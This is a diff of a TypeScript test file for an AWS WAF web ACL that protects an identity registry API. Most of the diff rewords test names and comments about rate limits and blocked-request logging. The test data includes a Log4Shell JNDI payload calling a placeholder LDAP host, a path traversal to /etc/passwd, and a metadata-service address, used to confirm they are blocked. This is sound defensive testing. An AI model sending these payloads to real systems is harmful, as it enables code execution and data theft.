@@ -34,7 +34,7 @@ test.each<[string, Partial<SeenRequest>]>([
   ['an event of 200 KB', { method: 'POST', path: '/v1/topics/CR/publish', body: event('x'.repeat(200_000)) }],
   ['an event that quotes HTML', { method: 'POST', path: '/v1/topics/CR/publish', body: event('<b>née</b> ../..') }],
   ['a receiver at an IP address', { ...subscribing, query: 'address=https%3A%2F%2F203.0.113.9%2Fhook' }],
-  // The registry itself rejects the address of the instance metadata service.
+  // The registry, not the web ACL, rejects the address of the instance metadata service.
   ['a receiver at a forbidden address', { ...subscribing, query: 'address=http://169.254.169.254/latest' }],
   ['a search with many attributes', { query: `lastName=O%27Brien&${'attributeNames=firstName&'.repeat(100)}` }],
   ['a topic with the name of a file', { method: 'POST', path: '/v1/topics/births.log/publish', body: event('') }],
@@ -53,7 +53,7 @@ test.each(endpoints.flatMap((endpoint) => methodsOf(endpoint).map((method) => [m
 );
 
 test.each<[string, Partial<SeenRequest>]>([
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what the attack looks like
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack contains this text
   ['Log4JRCE_BODY', { body: '{"note":"${jndi:ldap://198.51.100.1/a}"}' }],
   ['GenericLFI_URIPATH', { path: '/v1/../../etc/passwd' }],
   ['ExploitablePaths_URIPATH', { path: '/web-inf/web.xml' }],
@@ -62,11 +62,11 @@ test.each<[string, Partial<SeenRequest>]>([
   expect(blockingRules(acl, asked(request))).toEqual([rule]);
 });
 
-test('every rule set to count exists in its managed rule group', () => {
+test('every rule with the action count exists in its managed rule group', () => {
   for (const { name, counted } of managedGroups) expect(rulesOf(name)).toEqual(expect.arrayContaining([...counted]));
 });
 
-/** Returns how many of these requests pass at a rate of one request every `everyMs` milliseconds. */
+/** Returns the number of requests that pass if a request is sent every `everyMs` milliseconds. */
 function letThrough(request: Partial<SeenRequest>, { count, everyMs }: { count: number; everyMs: number }): number {
   const limit = rateLimits(acl, sets);
   let through = 0;
@@ -78,21 +78,21 @@ function letThrough(request: Partial<SeenRequest>, { count, everyMs }: { count: 
   return through;
 }
 
-test('the limits per client stop a flood of requests from one address, even if each request has a different token', () => {
+test('the limits per client block a flood of requests from one address, even if each request has a different token', () => {
   // Without these limits, the stage would accept 2,000 requests per second.
   expect(letThrough({}, { count: 20_000, everyMs: 0.5 })).toBe(6000);
   expect(letThrough({ headers: { authorization: 'Bearer guess' } }, { count: 2000, everyMs: 1 })).toBe(300);
   expect(letThrough({ headers: {} }, { count: 2000, everyMs: 1 })).toBe(300);
 });
 
-test('the limits per client stop one client on the public pages, regardless of its Authorization header', () => {
+test('the limits per client block excessive requests to the public pages, regardless of the Authorization header', () => {
   // Browsers send no token.
   for (const path of ['/v1/confirm', '/v1/openapi.json', '/civil/v1/unsubscribe', '/v1/nothing'])
     for (const headers of [{}, { headers: {} }, { headers: { authorization: 'Bearer guess' } }])
       expect(letThrough({ path, ...headers }, { count: 2000, everyMs: 1 }), path).toBe(600);
 });
 
-test('the limits per client stop one token on costly operations, however many addresses send it', () => {
+test('the limits per client block excessive requests to costly operations with one token, even from many addresses', () => {
   const costly = endpoints.filter((endpoint) => 'isCostly' in endpoint);
   for (const { method, path } of costly) {
     const request = { method, path: path.replaceAll(/\{\w+\}/g, 'a-1'), headers: { authorization: token } };
@@ -104,7 +104,7 @@ test('the limits per client stop one token on costly operations, however many ad
 });
 
 test('the limits per client do not block requests at a usual rate', () => {
-  // The requests take more than a minute, so the earliest requests no longer count when the last ones arrive.
+  // The requests take more than a minute, so the first requests no longer count when the last requests arrive.
   expect(letThrough({}, { count: 8000, everyMs: 12 })).toBe(8000);
 });
 
@@ -125,7 +125,7 @@ test('a blocked request gets an Error object and a Retry-After header', () => {
   }
 });
 
-test('the web ACL protects the stage and stores no request samples, and the protected stage has a higher limit on public routes', () => {
+test('the web ACL protects the stage and stores no request samples', () => {
   const [association] = protection.ofType('AWS::WAFv2::WebACLAssociation');
   expect(JSON.stringify(association?.properties.ResourceArn)).toMatch(/::\/restapis\/.*\/stages\/v1"/);
   expect(JSON.stringify(acl)).not.toContain('"SampledRequestsEnabled":true');
@@ -138,7 +138,7 @@ test('the web ACL protects the stage and stores no request samples, and the prot
 
 const only = (type: string): Properties => protection.ofType(type)[0]?.properties ?? {};
 
-test('the log of blocked requests excludes other requests, has a name that AWS WAF accepts, and is kept as long as other logs', () => {
+test('the log of blocked requests excludes other requests, and has a valid name and the usual retention period', () => {
   const group = protection.ofType('AWS::Logs::LogGroup')[0];
   const name = JSON.stringify(group?.properties.LogGroupName);
   expect(name).toMatch(/^[^a-z]*(Fn::Join)?[^a-z]*aws-waf-logs-identity-registry-prod/);
@@ -151,7 +151,7 @@ test('the log of blocked requests excludes other requests, has a name that AWS W
   expect(LoggingFilter).toEqual({ DefaultBehavior: 'DROP', Filters });
 });
 
-test('the log of blocked requests names no person and contains no token', () => {
+test('the log of blocked requests contains no personal data and no token', () => {
   const { RedactedFields } = only('AWS::WAFv2::LoggingConfiguration');
   const headers = ['authorization', 'referer'].map((Name) => ({ SingleHeader: { Name } }));
   expect(RedactedFields).toEqual(expect.arrayContaining([{ UriPath: {} }, { QueryString: {} }, ...headers]));
